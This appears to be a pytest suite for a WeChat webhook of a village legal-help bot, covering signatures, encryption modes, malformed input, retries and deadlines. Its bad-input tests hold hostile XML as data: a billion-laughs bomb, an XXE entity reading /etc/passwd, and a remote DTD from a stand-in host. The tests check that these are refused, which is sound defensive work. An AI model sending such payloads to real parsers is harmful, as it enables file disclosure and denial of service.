"""/wechat under WeChat's real rules: signatures, modes, bad input, every type, retries, deadline."""

from __future__ import annotations

import asyncio
import time
from typing import Any

import pytest
from sqlalchemy import func, select

from bot.keys import ENGINE, PIPELINE, SERVICES
from bot.settings import Settings
from bot.storage.models import InboundMessage, KnowledgeGap, OutboxMessage, Villager
from bot.wechat.crypto import sha1_signature
from bot.wechat.pusher import PushSigner
from bot.wechat.xml import parse_xml
from tests.phone import Phone

AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"


def signed_query(settings: Settings, ts: int | None = None, nonce: str = "n0nce") -> dict[str, str]:
    timestamp = str(ts if ts is not None else int(time.time()))
    return {
        "signature": sha1_signature(settings.wechat_token, timestamp, nonce),
        "timestamp": timestamp,
        "nonce": nonce,
    }


async def count(client: Any, model: Any, *where: Any) -> int:
    async with client.app[SERVICES].session_factory() as session:
        return int((await session.execute(select(func.count()).select_from(model).where(*where))).scalar_one())


# ------------------------------------------------------------------ URL verification
async def test_get_echoes_echostr_on_a_valid_signature(client: Any, settings: Settings) -> None:
    resp = await client.get("/wechat", params={**signed_query(settings), "echostr": "4786598764432"})
    assert resp.status == 200
    assert await resp.text() == "4786598764432"


@pytest.mark.parametrize("tamper", ["signature", "timestamp", "nonce"])
async def test_get_refuses_a_bad_signature(client: Any, settings: Settings, tamper: str) -> None:
    query = {**signed_query(settings), "echostr": "x"}
    query[tamper] = query[tamper][:-1] + ("0" if query[tamper][-1] != "0" else "1")
    resp = await client.get("/wechat", params=query)
    assert resp.status == 403


async def test_get_without_parameters_is_refused(client: Any) -> None:
    assert (await client.get("/wechat")).status == 403


async def test_stale_timestamp_is_refused_and_window_can_be_disabled(make_client: Any, settings: Settings) -> None:
    old = int(time.time()) - 301
    client = await make_client(settings)
    assert (await client.get("/wechat", params={**signed_query(settings, old), "echostr": "e"})).status == 403
    relaxed = await make_client(settings.with_(timestamp_window=0))
    resp = await relaxed.get("/wechat", params={**signed_query(settings, old), "echostr": "e"})
    assert resp.status == 200


# ------------------------------------------------------------------ modes
async def test_plaintext_text_message_gets_a_passive_text_reply(phone: Phone) -> None:
    reply = await phone.send(phone.signer.text(phone.openid, "你好"))
    assert reply.status == 200
    assert reply.fields["MsgType"] == "text"
    assert reply.fields["ToUserName"] == phone.openid  # To/From swapped
    assert reply.fields["FromUserName"] == phone.signer.account
    assert "乡法通" in reply.content


async def test_safe_mode_round_trip_is_encrypted_and_signed(make_client: Any, settings: Settings) -> None:
    settings = settings.with_(wechat_aes_key=AES_KEY)
    client = await make_client(settings)
    phone = Phone(client, settings, safe=True)
    push = phone.signer.sign(phone.signer.text(phone.openid, "你好"), encrypted=True)
    assert b"<Content>" not in push.body
    resp = await client.post("/wechat", params=push.query, data=push.body)
    raw = await resp.text()
    assert resp.status == 200
    envelope = parse_xml(raw)
    assert set(envelope) == {"Encrypt", "MsgSignature", "TimeStamp", "Nonce"}
    reply = phone.signer.open_reply(200, raw, encrypted=True)  # verifies MsgSignature and the appid
    assert "乡法通" in reply.content


async def test_compatible_mode_body_with_plaintext_and_encrypt(make_client: Any, settings: Settings) -> None:
    settings = settings.with_(wechat_aes_key=AES_KEY)
    client = await make_client(settings)
    signer = PushSigner(settings.wechat_token, settings.wechat_appid, AES_KEY)
    fields = signer.text("o_compat", "你好")
    push = signer.sign(fields, encrypted=True)
    # compatible mode: the plaintext fields travel beside Encrypt
    body = push.body.decode().replace(
        "</xml>", "<FromUserName><![CDATA[o_compat]]></FromUserName><Content><![CDATA[你好]]></Content></xml>"
    )
    resp = await client.post("/wechat", params=push.query, data=body.encode())
    assert resp.status == 200
    assert "乡法通" in signer.open_reply(200, await resp.text(), encrypted=True).content


async def test_safe_mode_refuses_bad_msg_signature_and_foreign_appid(make_client: Any, settings: Settings) -> None:
    settings = settings.with_(wechat_aes_key=AES_KEY)
    client = await make_client(settings)
    signer = PushSigner(settings.wechat_token, settings.wechat_appid, AES_KEY)
    push = signer.sign(signer.text("o_x", "你好"), encrypted=True)
    bad = {**push.query, "msg_signature": "0" * 40}
    assert (await client.post("/wechat", params=bad, data=push.body)).status == 403
    other = PushSigner(settings.wechat_token, "wx_other_account_01", AES_KEY)
    foreign = other.sign(other.text("o_x", "你好"), encrypted=True)
    assert (await client.post("/wechat", params=foreign.query, data=foreign.body)).status == 400
    assert await count(client, InboundMessage) == 0


async def test_safe_mode_without_a_key_configured_is_a_400(client: Any, settings: Settings) -> None:
    signer = PushSigner(settings.wechat_token, settings.wechat_appid, AES_KEY)
    push = signer.sign(signer.text("o_x", "你好"), encrypted=True)
    assert (await client.post("/wechat", params=push.query, data=push.body)).status == 400


async def test_post_with_bad_url_signature_is_refused(client: Any, phone: Phone) -> None:
    push = phone.signer.sign(phone.signer.text(phone.openid, "你好"))
    push.query["signature"] = "f" * 40
    assert (await client.post("/wechat", params=push.query, data=push.body)).status == 403
    assert await count(client, InboundMessage) == 0


# ------------------------------------------------------------------ bad input
async def test_body_over_64_kib_is_413(client: Any, settings: Settings) -> None:
    body = b"<xml><Content><![CDATA[" + b"a" * (64 * 1024) + b"]]></Content></xml>"
    resp = await client.post("/wechat", params=signed_query(settings), data=body)
    assert resp.status == 413


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b"<xml><ToUserName>a</ToUserName>",
        b"<notxml><a>1</a></notxml>",
        "<xml><Content>\udcff</Content></xml>".encode("utf-8", "surrogateescape"),
    ],
)
async def test_malformed_xml_is_400(client: Any, settings: Settings, body: bytes) -> None:
    resp = await client.post("/wechat", params=signed_query(settings), data=body)
    assert resp.status == 400


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>
<Content>&lol3;</Content><MsgId>1</MsgId></xml>"""
XXE = b"""<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>
<Content>&xxe;</Content><MsgId>1</MsgId></xml>"""
XXE_REMOTE = b"""<!DOCTYPE xml SYSTEM "http://203.0.113.9/evil.dtd"><xml><Content>x</Content></xml>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, XXE_REMOTE])
async def test_doctype_and_entities_are_400_without_expansion(client: Any, settings: Settings, body: bytes) -> None:
    resp = await client.post("/wechat", params=signed_query(settings), data=body)
    assert resp.status == 400
    assert "root:" not in await resp.text()
    assert await count(client, InboundMessage) == 0


async def test_doctype_inside_the_encrypted_payload_is_400(make_client: Any, settings: Settings) -> None:
    settings = settings.with_(wechat_aes_key=AES_KEY)
    client = await make_client(settings)
    signer = PushSigner(settings.wechat_token, settings.wechat_appid, AES_KEY)
    assert signer.crypto is not None
    enc = signer.crypto.encrypt(XXE.decode())
    ts, nonce = str(int(time.time())), "abc"
    query = {
        "signature": sha1_signature(settings.wechat_token, ts, nonce),
        "timestamp": ts,
        "nonce": nonce,
        "encrypt_type": "aes",
        "msg_signature": signer.crypto.msg_signature(ts, nonce, enc),
    }
    body = f"<xml><ToUserName><![CDATA[gh]]></ToUserName><Encrypt><![CDATA[{enc}]]></Encrypt></xml>"
    assert (await client.post("/wechat", params=query, data=body.encode())).status == 400


@pytest.mark.parametrize("drop", ["ToUserName", "FromUserName", "CreateTime", "MsgType", "MsgId", "Content"])
async def test_missing_required_fields_are_400(client: Any, phone: Phone, drop: str) -> None:
    fields = phone.signer.text(phone.openid, "你好")
    del fields[drop]
    resp = await phone.send(fields)
    assert resp.status == 400


async def test_event_without_event_name_is_400(phone: Phone) -> None:
    fields = phone.signer.event(phone.openid, "subscribe")
    del fields["Event"]
    assert (await phone.send(fields)).status == 400


async def test_non_numeric_create_time_is_400(phone: Phone) -> None:
    assert (await phone.send(phone.signer.text(phone.openid, "你好", create_time="yesterday"))).status == 400  # type: ignore[arg-type]


@pytest.mark.parametrize("msg_type", ["miniprogrampage", "hologram"])
async def test_unknown_message_type_is_success(phone: Phone, msg_type: str) -> None:
    reply = await phone.send(phone.signer.message(phone.openid, msg_type, Title="x"))
    assert reply.status == 200 and reply.is_success


async def test_unknown_event_is_success(phone: Phone) -> None:
    reply = await phone.event("kf_create_session", "x")
    assert reply.status == 200 and reply.is_success


# ------------------------------------------------------------------ every type
async def test_voice_with_recognition_is_answered_like_text(phone: Phone) -> None:
    assert "乡法通" in await phone.voice("你好")


async def test_voice_without_recognition_asks_to_type_or_speak_again(phone: Phone) -> None:
    reply = await phone.voice(None)
    assert "没听清" in reply and "打字" in reply


@pytest.mark.parametrize(
    ("msg_type", "extra", "expected"),
    [
        ("image", {"PicUrl": "http://127.0.0.1/a.jpg", "MediaId": "m1"}, "图片"),
        ("video", {"MediaId": "m2", "ThumbMediaId": "t2"}, "视频"),
        ("shortvideo", {"MediaId": "m3", "ThumbMediaId": "t3"}, "小视频"),
        ("link", {"Title": "一篇文章", "Description": "d", "Url": "http://127.0.0.1/x"}, "链接"),
        ("location", {"Location_X": "33.7", "Location_Y": "112.8", "Scale": "15", "Label": "观音寺乡"}, "位置"),
    ],
)
async def test_media_is_acknowledged_and_kept(
    client: Any, phone: Phone, msg_type: str, extra: dict[str, Any], expected: str
) -> None:
    reply = await phone.send(phone.signer.message(phone.openid, msg_type, **extra))
    assert expected in reply.content
    async with client.app[SERVICES].session_factory() as session:
        row = (await session.execute(select(InboundMessage).where(InboundMessage.msg_type == msg_type))).scalar_one()
    for key, value in extra.items():
        assert row.payload[key] == value


async def test_subscribe_welcomes_with_privacy_notice(phone: Phone) -> None:
    reply = await phone.subscribe()
    assert "欢迎" in reply and "转人工" in reply and "隐私" in reply


async def test_subscribe_through_a_village_qr_code_sets_the_village(client: Any, phone: Phone) -> None:
    reply = await phone.subscribe("village_3")
    assert "东竹园村" in reply
    async with client.app[SERVICES].session_factory() as session:
        villager = (await session.execute(select(Villager).where(Villager.openid == phone.openid))).scalar_one()
    assert villager.village_id == 3 and villager.village_source == "qrscene" and villager.subscribed


async def test_unknown_village_scene_is_ignored(client: Any, phone: Phone) -> None:
    reply = await phone.subscribe("village_99")
    assert "欢迎" in reply
    async with client.app[SERVICES].session_factory() as session:
        villager = (await session.execute(select(Villager).where(Villager.openid == phone.openid))).scalar_one()
    assert villager.village_id is None


async def test_scan_changes_village_and_unsubscribe_is_recorded(client: Any, phone: Phone) -> None:
    await phone.subscribe()
    reply = await phone.event("SCAN", "village_5", Ticket="t")
    assert "柳树岭村" in reply.content
    left = await phone.event("unsubscribe", "")
    assert left.is_success
    async with client.app[SERVICES].session_factory() as session:
        villager = (await session.execute(select(Villager).where(Villager.openid == phone.openid))).scalar_one()
    assert villager.village_id == 5 and not villager.subscribed and villager.unsubscribed_at is not None


@pytest.mark.parametrize(
    ("event", "key", "extra"),
    [
        ("VIEW", "http://127.0.0.1/campaigns", {}),
        ("LOCATION", None, {"Latitude": "33.7", "Longitude": "112.8", "Precision": "30"}),
        ("TEMPLATESENDJOBFINISH", None, {"MsgID": "200163836", "Status": "success"}),
        (
            "MASSSENDJOBFINISH",
            None,
            {
                "MsgID": "1000001625",
                "Status": "sendsuccess",
                "TotalCount": "100",
                "FilterCount": "80",
                "SentCount": "75",
                "ErrorCount": "5",
            },
        ),
    ],
)
async def test_notice_events_are_stored_and_answered_success(
    client: Any, phone: Phone, event: str, key: str | None, extra: dict[str, str]
) -> None:
    reply = await phone.event(event, key, **extra)
    assert reply.is_success
    async with client.app[SERVICES].session_factory() as session:
        row = (await session.execute(select(InboundMessage).where(InboundMessage.event == event.lower()))).scalar_one()
    assert row.payload["Event"] == event
    for k, v in extra.items():
        assert row.payload[k] == v


async def test_menu_click_is_answered(phone: Phone) -> None:
    assert "司法所" in await phone.click("CONTACT")


# ------------------------------------------------------------------ retries and copies
async def test_a_retry_gets_the_stored_reply_and_is_not_processed_twice(client: Any, phone: Phone) -> None:
    push = phone.signer.sign(phone.signer.text(phone.openid, "今天天气咋样"))  # unanswerable: recorded as a gap
    first = await phone.post(push)
    second = await phone.post(push)
    assert "转人工" in first.content
    assert second.content == first.content
    assert await count(client, InboundMessage) == 1
    assert await count(client, KnowledgeGap) == 1


async def test_retry_of_an_event_uses_openid_time_event_and_key(client: Any, phone: Phone) -> None:
    fields = phone.signer.event(phone.openid, "subscribe", "qrscene_village_1", create_time=1_700_000_000)
    await phone.send(fields)
    await phone.send(dict(fields))
    assert await count(client, InboundMessage) == 1
    await phone.send(phone.signer.event(phone.openid, "subscribe", "qrscene_village_2", create_time=1_700_000_000))
    assert await count(client, InboundMessage) == 2


async def test_six_concurrent_copies_make_one_row_and_one_side_effect(client: Any, phone: Phone) -> None:
    push = phone.signer.sign(phone.signer.text(phone.openid, "今天天气咋样"))
    replies = await asyncio.gather(*(phone.post(push) for _ in range(6)))
    assert all(r.status == 200 for r in replies)
    assert any("转人工" in r.content for r in replies)
    assert await count(client, InboundMessage) == 1
    assert await count(client, KnowledgeGap) == 1


async def test_same_msgid_from_two_villagers_are_two_messages(client: Any, settings: Settings) -> None:
    a, b = Phone(client, settings, "o_a"), Phone(client, settings, "o_b")
    await a.say("你好", msg_id=42)
    await b.say("你好", msg_id=42)
    assert await count(client, InboundMessage) == 2


# ------------------------------------------------------------------ replies
async def test_a_long_answer_is_cut_at_a_sentence_with_more_hint(client: Any, phone: Phone) -> None:
    reply = await phone.say("法条 民事诉讼法第122条")
    assert len(reply.encode("utf-8")) <= 2048
    assert reply.strip()


def test_cdata_end_marker_in_content_is_escaped() -> None:
    from bot.wechat.xml import render_text

    xml = render_text("o_user", "gh_acc", "前]]><script>后")
    assert parse_xml(xml)["Content"] == "前]]><script>后"


def test_fit_text_cuts_at_a_sentence_end_and_never_returns_empty() -> None:
    from bot.wechat.xml import MORE_HINT, fit_text

    long = "这是一句话。" * 600
    shown, rest = fit_text(long)
    assert len(shown.encode("utf-8")) <= 2048
    assert shown.endswith(MORE_HINT) and shown[: -len(MORE_HINT)].endswith("。")
    assert (shown[: -len(MORE_HINT)] + rest) == long
    assert fit_text("   ")[0]


# ------------------------------------------------------------------ deadline
async def test_past_the_deadline_the_webhook_says_success_and_the_reply_goes_to_the_outbox(
    make_client: Any, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    from handlers import help as help_module

    client = await make_client(settings.with_(reply_deadline=0.3))
    phone = Phone(client, settings)

    async def slow_contact(ctx: Any, data: dict[str, Any]) -> Any:
        await asyncio.sleep(2.0)
        return help_module.TextReply("慢回复：" + ctx.services.texts.get("contact"))

    pipeline = client.app[PIPELINE]
    for i, h in enumerate(pipeline.dispatcher.handlers):
        if h.name == "help.contact":
            pipeline.dispatcher.handlers[i] = type(h)(h.name, h.check, slow_contact, h.stateful)
    started = time.monotonic()
    reply = await phone.send(phone.signer.text(phone.openid, "联系方式"))
    assert reply.is_success
    assert time.monotonic() - started < 1.5  # answered at the 0.3 s deadline, long before the handler ends
    for _ in range(100):
        if await count(client, OutboxMessage) == 1:
            break
        await asyncio.sleep(0.05)
    async with client.app[SERVICES].session_factory() as session:
        row = (await session.execute(select(OutboxMessage))).scalar_one()
        inbound = (await session.execute(select(InboundMessage))).scalar_one()
    assert row.kind == "cs_text" and row.openid == phone.openid and "慢回复" in row.payload["content"]
    assert inbound.status == "deferred"
    # WeChat's retry after a deferral gets `success`, not a second copy of the answer
    assert (await phone.send(phone.signer.text(phone.openid, "联系方式", msg_id=int(inbound.msg_id or 0)))).is_success


# ------------------------------------------------------------------ never a 5xx
async def test_a_crashing_handler_still_answers_the_villager(client: Any, phone: Phone) -> None:
    pipeline = client.app[PIPELINE]

    async def boom(ctx: Any, data: dict[str, Any]) -> Any:
        raise RuntimeError("bug")

    for i, h in enumerate(pipeline.dispatcher.handlers):
        if h.name == "help.contact":
            pipeline.dispatcher.handlers[i] = type(h)(h.name, h.check, boom, h.stateful)
    reply = await phone.send(phone.signer.text(phone.openid, "联系方式"))
    assert reply.status == 200
    assert "小差" in reply.content
    async with client.app[SERVICES].session_factory() as session:
        inbound = (await session.execute(select(InboundMessage))).scalar_one()
    assert inbound.status == "failed"


async def test_database_down_is_not_a_5xx(make_client: Any, settings: Settings, tmp_path: Any) -> None:
    client = await make_client(settings)
    await client.app[ENGINE].dispose()
    broken = f"sqlite+aiosqlite:///{tmp_path}/no/such/dir/x.sqlite3"
    from bot.storage.db import create_engine, create_session_factory

    engine = create_engine(broken.replace("/no/such/dir", "/missing"))
    client.app[SERVICES].session_factory = create_session_factory(engine)  # a database without tables
    phone = Phone(client, settings)
    reply = await phone.send(phone.signer.text(phone.openid, "你好"))
    assert reply.status == 200
    assert "没能保存" in reply.content
    resp = await client.get("/healthz")
    assert resp.status == 503
    await engine.dispose()


async def test_two_mass_jobs_finishing_in_the_same_second_are_two_pushes(client: Any, phone: Phone) -> None:
    fields = {
        "MsgID": "1000001",
        "Status": "sendsuccess",
        "TotalCount": "10",
        "FilterCount": "10",
        "SentCount": "10",
        "ErrorCount": "0",
    }
    first = phone.signer.event("gh_account", "MASSSENDJOBFINISH", None, create_time=1_700_000_000, **fields)
    second = phone.signer.event(
        "gh_account", "MASSSENDJOBFINISH", None, create_time=1_700_000_000, **{**fields, "MsgID": "1000002"}
    )
    await phone.send(first)
    await phone.send(second)
    await phone.send(first)  # WeChat's retry of the first
    assert await count(client, InboundMessage) == 2


async def test_a_villagers_quick_second_message_sees_what_the_first_one_left(client: Any, phone: Phone) -> None:
    """Two messages in quick succession are handled in order, even when the first is slow."""
    from bot.routing import TextReply

    pipeline = client.app[PIPELINE]

    async def slow_contact(ctx: Any, data: dict[str, Any]) -> Any:
        await asyncio.sleep(0.3)
        ctx.remember(more="这是后半段。")
        return TextReply("这是前半段。")

    for i, h in enumerate(pipeline.dispatcher.handlers):
        if h.name == "help.contact":
            pipeline.dispatcher.handlers[i] = type(h)(h.name, h.check, slow_contact, h.stateful)
    first = asyncio.create_task(phone.say("联系方式"))
    await asyncio.sleep(0.05)  # the first is stored and being handled
    assert await phone.say("更多") == "这是后半段。"
    assert await first == "这是前半段。"


# ------------------------------------------------------------------ limits (security review #10, #11)
async def test_deep_nesting_is_a_400_not_a_crash(client: Any, phone: Phone) -> None:
    depth = 5000
    body = b"<xml>" + b"<a>" * depth + b"x" + b"</a>" * depth + b"</xml>"
    push = phone.signer.sign(phone.signer.text(phone.openid, "你好"))
    resp = await client.post("/wechat", params=push.query, data=body)
    assert resp.status == 400
    assert await count(client, InboundMessage) == 0
    # WeChat's deepest push (a picture-upload event) still goes through
    deep = phone.signer.event(phone.openid, "pic_sysphoto", "k")
    push = phone.signer.sign(deep)
    inner = b"<SendPicsInfo><Count>1</Count><PicList><item><PicMd5Sum>abc</PicMd5Sum></item></PicList></SendPicsInfo>"
    resp = await client.post("/wechat", params=push.query, data=push.body.replace(b"</xml>", inner + b"</xml>"))
    assert resp.status == 200


@pytest.mark.parametrize(
    ("field", "limit"),
    [("FromUserName", 64), ("MsgId", 64), ("EventKey", 255), ("Event", 64), ("MsgType", 32), ("MediaId", 255)],
)
async def test_a_field_longer_than_its_column_is_refused_before_storage(
    client: Any, phone: Phone, field: str, limit: int
) -> None:
    def push_with(value: str) -> dict[str, Any]:
        if field in ("EventKey", "Event"):
            fields = phone.signer.event(phone.openid, "CLICK", "CONTACT")
        else:
            fields = phone.signer.message(phone.openid, "image", PicUrl="http://127.0.0.1/a.jpg", MediaId="m1")
        fields[field] = value
        return fields

    assert (await phone.send(push_with("9" * (limit + 1)))).status == 400
    assert await count(client, InboundMessage) == 0
    assert await count(client, Villager) == 0
    assert (await phone.send(push_with("9" * limit))).status == 200  # WeChat's longest still fits


@pytest.mark.parametrize("create_time", ["99999999999999999999", "-5", str(2**40)])
async def test_a_create_time_wechat_could_not_have_sent_is_a_400(phone: Phone, create_time: str) -> None:
    fields = phone.signer.text(phone.openid, "你好")
    fields["CreateTime"] = create_time
    assert (await phone.send(fields)).status == 400
